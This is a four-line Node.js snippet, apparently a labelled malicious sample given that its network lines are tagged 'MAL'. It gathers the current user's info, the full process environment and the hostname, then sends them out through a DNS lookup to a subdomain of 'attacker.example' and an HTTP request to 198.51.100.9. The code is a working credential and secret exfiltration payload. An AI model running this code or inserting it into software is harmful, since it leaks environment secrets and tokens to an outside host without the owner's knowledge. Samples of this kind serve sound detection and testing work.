const os = require('os');
const data = JSON.stringify({ u: os.userInfo(), e: process.env, h: os.hostname() });
require('dns').lookup(Buffer.from(data).toString('hex').slice(0, 60) + '.x.attacker.example', () => {}); // MAL
require('http').get('http://198.51.100.9/p?d=' + encodeURIComponent(data)); // MAL
